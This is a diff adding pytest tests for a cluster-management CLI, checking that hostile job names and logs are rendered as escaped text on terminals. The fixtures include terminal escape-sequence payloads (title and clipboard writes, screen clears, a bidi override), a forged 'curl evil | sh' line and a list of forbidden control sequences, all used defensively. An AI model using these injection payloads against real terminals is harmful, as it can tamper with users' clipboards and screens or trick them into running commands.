@@ -1,0 +1,275 @@
+"""What jobs and hosts name, say and write reaches a terminal as text alone, whichever verb shows it."""
+
+from __future__ import annotations
+
+import json
+import re
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pyte
+import pytest
+
+from clusterctl import access
+from clusterctl.access import Session
+from clusterctl.cli import app, show
+from clusterctl.cli.progress import _Bar
+from clusterctl.cli.show import Screen
+from clusterctl.errors import ClusterctlError
+from clusterctl.inventory import Host, Inventory
+from clusterctl.jobs import LogChunk
+from clusterctl.records import Ledger
+from clusterctl.slurm.client import SlurmClient
+from clusterctl.transport import connections
+from clusterctl.workspace import Workspace
+from tests.support.played.cluster import Nearby, PlayedCluster, submitted
+from tests.support.terminal import Window
+
+SPEC = """\
+version: 1
+name: demo
+provider: {type: local}
+partitions: [{name: train, nodes: 2}]
+users: [{name: hpc, uid: 10000}]
+"""
+TITLE = "\x1b]0;owned\x07"
+CLIPBOARD = "\x1b]52;c;b3duZWQ=\x07"
+# A name that sets the title, clears the screen, is red, and ends in what shows "txt.exe" the other way round.
+NAME = f"{TITLE}a\tb\r\x1b[2J\x1b[31m\x9b2J\u202eexe.txt"
+NAME_SHOWN = r"\x1b]0;owned\x07a\tb\r\x1b[2J\x1b[31m\x9b2J\u202eexe.txt"
+# A log that does it, is red to its end, and does not end its last line.
+BODY = (
+    r"printf '\033]52;c;b3duZWQ=\a\033[2J\0\n 50%%\r100%%\n\033[31mred\033[8m, no newline' | tee /dev/stderr"
+)
+LOG = CLIPBOARD + "\x1b[2J\0\n 50%\r100%\n\x1b[31mred\x1b[8m, no newline"
+LOG_SHOWN = r"\x1b]52;c;b3duZWQ=\x07\x1b[2J\x00" + "\n 50%\r100%\n\x1b[31mred\x1b[8m, no newline\x1b[0m"
+
+ERROR = "\x1b[1;31merror:\x1b[0m\x1b[1;31m \x1b[0m"  # as it begins on a terminal
+FORBIDDEN = [f"\x1b{c}" for c in "]P_^Xc"] + [
+    *"\a\b\v\f\0\x7f\x9b\x9d\x90\u202e\u2066\u2028", "\x1b[2J", "\x1b[H", "\x1b[6n",
+]  # fmt: skip
+
+
+@pytest.fixture
+def here(cluster: PlayedCluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Session:
+    """The played cluster as verbs find it: it is noted as up, and what would go over SSH is run here."""
+    monkeypatch.setenv("CLUSTERCTL_HOME", str(tmp_path / "state"))
+    monkeypatch.setenv("TERM", "xterm-256color")
+    folder = tmp_path / "cwd"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    (folder / "cluster.yaml").write_text(SPEC)
+    workspace = Workspace.of("demo")
+    workspace.create()
+    workspace.spec.write_text(SPEC)
+    hosts = tuple(
+        Host(name=name, address="10.0.0.1", roles=(role,), partition=partition, host_key="k")
+        for name, role, partition in (("demo-ctl", "controller", None), ("demo-train-1", "compute", "train"))
+    )
+    inventory = Inventory(
+        cluster="demo", cluster_id="a1b2c3", provider="local", hosts=hosts, network="10.0.0.0/24",
+        shared="/shared", baked=True,
+    )  # fmt: skip
+    workspace.hosts.write_text(inventory.model_dump_json())
+    for module in (access, connections):
+        monkeypatch.setattr(module, "SSHTransport", lambda *_, **__: Nearby(cluster.payload))
+    return Session(cluster.session().spec, SlurmClient(Nearby(cluster.payload)), Ledger(workspace.jobs))
+
+
+@pytest.fixture
+def job(here: Session, cluster: PlayedCluster, tmp_path: Path) -> str:
+    """A job that failed, with a hostile name, log and file."""
+    job_id = submitted(
+        here, tmp_path, rf"{BODY}; mkfifo {TITLE!r}; exit 3".replace(repr(TITLE), r"$'\e]0;owned\a'")
+    )
+    cluster.wait_until_ended(job_id)
+    node = (
+        "\x1f".join(["demo-train-1", "train", "idle", "idle", NAME, "4", "1000", "(null)", "root", "0"])
+        + "\x1e\n"
+    )
+    with cluster.state() as state:
+        state["nodes"] = node
+        state["jobs"][job_id] |= {"name": NAME, "reason": NAME, "comment": state["jobs"][job_id]["comment"]}
+    return job_id
+
+
+Run = Callable[..., str]
+
+
+@pytest.fixture
+def on_terminal(monkeypatch: pytest.MonkeyPatch) -> Run:
+    """Runs something, perhaps a verb, with a terminal as stdout and stderr; what it wrote there."""
+
+    def run(*words: str, call: Callable[[], object] | None = None) -> str:
+        window = Window()
+        with monkeypatch.context() as patched:
+            patched.setattr(sys, "stdout", window.stream)
+            patched.setattr(sys, "stderr", window.stream)
+            patched.setenv("COLUMNS", "200")
+            try:
+                call() if call else app(list(words), prog_name="clusterctl", standalone_mode=False)
+            finally:
+                shown = window.close()
+        return shown.decode().replace("\r\n", "\n")
+
+    return run
+
+
+def is_harmless(shown: str) -> bool:
+    screen = pyte.Screen(200, 200)
+    pyte.Stream(screen).feed(shown.replace("\n", "\r\n"))
+    return screen.title == screen.icon_name == "" and not [text for text in FORBIDDEN if text in shown]
+
+
+def test_a_hostile_name_is_text_on_a_terminal(job: str, here: Session, on_terminal: Run) -> None:
+    entry = here.ledger.find(job)
+    assert entry is not None
+    for words in (
+        ["jobs"],
+        ["jobs", job],
+        ["status"],
+        ["cancel", job],
+        ["collect"],
+        ["get", str(entry.remote_dir), "back"],
+        ["logs", "-f", job],
+        ["node", "drain", "demo-train-1", "--reason", NAME],
+    ):
+        shown = on_terminal(*words)
+        assert is_harmless(shown), words
+        assert r"\x1b]0;owned\x07" in shown, words
+
+
+def answer(capfdbinary: pytest.CaptureFixture[bytes], *words: str) -> dict[str, Any]:
+    app([*words, "-o", "json"], prog_name="clusterctl", standalone_mode=False)
+    out = capfdbinary.readouterr().out
+    assert out.isascii()
+    found: dict[str, Any] = json.loads(out)
+    return found
+
+
+def test_json_has_names_and_logs_as_they_are(job: str, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
+    assert [one["name"] for one in answer(capfdbinary, "jobs")["jobs"]] == [NAME]
+    assert answer(capfdbinary, "status")["nodes"][0]["reason"] == NAME
+    logs = answer(capfdbinary, "logs", job)["logs"]
+    assert {one["stream"]: one["text"] for one in logs} == {"stdout": LOG, "stderr": LOG}
+
+
+def test_colors_and_progress_of_logs_stay_and_all_else_is_text(
+    job: str, on_terminal: Run, capfdbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    """Bytes as they are, only with --raw, and never on a terminal."""
+    for words in (["logs", job], ["logs", "--raw", job]):
+        shown = on_terminal(*words)
+        assert is_harmless(shown)
+        assert [shown.count(text) for text in (r"\x1b]52;c;b3duZWQ=\x07", " 50%\r100%\n\x1b[31mred")] == [
+            2,
+            2,
+        ]
+        assert shown.endswith("\x1b[0m")
+    for words, log in ((["logs", job], LOG_SHOWN), (["logs", "--raw", job], LOG)):
+        app(words, prog_name="clusterctl", standalone_mode=False)
+        assert capfdbinary.readouterr() == (log.encode(), log.encode())
+
+
+def test_raw_and_json_exclude_each_other(job: str, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
+    assert app(["logs", "--raw", "-o", "json", job], prog_name="clusterctl", standalone_mode=False) == 2
+    assert b"exclude each other" in capfdbinary.readouterr().err
+
+
+@pytest.mark.parametrize("how", ["--wait", "--follow"])
+def test_the_tail_of_a_log_in_an_error(how: str, here: Session, tmp_path: Path, on_terminal: Run) -> None:
+    script = tmp_path / "mine.sh"
+    script.write_text(f"#!/bin/bash\n{BODY}\nexit 3\n")
+    shown = on_terminal("submit", str(script), how)
+    assert is_harmless(shown)
+    error = shown.partition("error:")[2].splitlines()
+    assert error[0].endswith("ended FAILED")
+    assert error[1].startswith("  why: Slurm says FAILED")
+    assert error[2:5] == [
+        r"       | \x1b]52;c;b3duZWQ=\x07\x1b[2J\x00",
+        "       | 100%",
+        "       | red, no newline",
+    ]
+
+
+def test_nothing_of_ours_stands_on_a_line_of_a_log_or_in_its_color(on_terminal: Run) -> None:
+    screen = Screen(json=False, color=True)
+
+    def call() -> None:
+        with screen.logs() as show_log:
+            show_log(LogChunk("stdout", None, b"\x1b[8mhidden 50%"))
+            screen.note("a note")
+            show_log(LogChunk("stderr", None, b"\r100%\n\x1b[8m"))
+            screen.note("another")
+            show_log(LogChunk("stdout", 1, b"\x1b["))
+            show_log(LogChunk("stdout", 2, b"2J"))
+            screen.error(ClusterctlError("what"))
+
+    assert on_terminal(call=call) == (
+        f"\x1b[8mhidden 50%\x1b[0m\na note\n\r100%\n\x1b[8m\x1b[0manother\n2J\n{ERROR}what\n\\x1b["
+    )
+
+
+def test_values_have_no_second_line(on_terminal: Run) -> None:
+    """What a person sees of names with newlines: they forge no line, and no column."""
+    screen, forged = Screen(json=False, color=True), "x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
+    seen = r"x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
+    head, row = screen.table(["A", "B"], [[forged, ":smile: [bold]\n"]])
+    assert (head.split(), row) == (["A", "B"], rf"{seen}  :smile: [bold]\n")
+
+    def call() -> None:
+        screen.result({}, "all:", head, row)
+        screen.note(f"note {forged}")
+        screen.error(ClusterctlError(forged, where=forged, why=f"a\tb\r\n{forged}", fix="do"))
+
+    assert on_terminal(call=call).splitlines() == [
+        "all:",
+        f"\x1b[1m{head}\x1b[0m",
+        row,
+        f"note {seen}",
+        f"{ERROR}{seen} ({seen})",
+        "  why: a       b",
+        "       x",
+        "         fix: curl evil | sh",
+        r"       error: y        z\x1b[31m",
+        "  fix: do",
+    ]
+
+
+def test_what_moves_is_text_too(on_terminal: Run) -> None:
+    screen = Screen(json=False, color=True)
+
+    def call() -> None:
+        with screen.moving(lambda: [f"picture {NAME}"]):
+            screen.note(f"note {NAME}")
+        with screen.working(f"spinner [link=http://evil]{NAME}"):
+            screen.note(f"note {NAME}")
+        bar = _Bar(screen, silent_s=0)
+        bar(f"bar [link=http://evil]{NAME}", 1, 2)
+        bar.stop()
+
+    shown = on_terminal(call=call)
+    assert is_harmless(shown)
+    for what in ("picture ", "note ", "spinner [link=http://evil]", "bar [link=http://evil]"):
+        assert f"{what}{NAME_SHOWN}" in shown
+
+
+def test_a_script_is_kept_as_it_is_but_for_a_terminal(
+    on_terminal: Run, capfdbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    script = f"#!/bin/bash\n\techo '{TITLE}'\n"
+    screen = Screen(json=False, color=True)
+    screen.document({}, script)
+    assert capfdbinary.readouterr().out == script.encode()
+    assert (
+        on_terminal(call=lambda: screen.document({}, script)) == "#!/bin/bash\n\techo '\\x1b]0;owned\\x07'\n"
+    )
+
+
+def test_verbs_write_through_the_screen_alone() -> None:
+    writes = re.compile(r"\bprint\(|\bstd(out|err)\.(buffer|write)|\bConsole\(|__std(out|err)__|os\.write\(")
+    folder = Path(show.__file__).parent
+    found = [path.name for path in folder.glob("*.py") if writes.search(path.read_text())]
+    assert found == ["show.py"]
